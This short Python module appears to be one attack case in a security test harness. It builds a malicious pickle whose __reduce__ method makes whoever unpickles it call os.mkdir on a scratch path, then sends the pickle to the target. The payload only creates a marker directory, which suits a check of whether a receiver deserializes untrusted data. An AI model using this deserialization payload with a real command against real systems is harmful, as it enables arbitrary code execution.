"""Send a pickle that would run a command where it is loaded."""

KIND = "act"
OUTCOME = "ended"
OPEN = "the grader unpickles nothing"


def attack(target):
    import os
    import pickle
    import struct

    from .tools import send

    class Bomb:
        def __reduce__(self):
            return os.mkdir, (target["scratch"] + "/unpickled",)

    data = pickle.dumps(Bomb())
    send(struct.pack("<I", len(data)) + data)
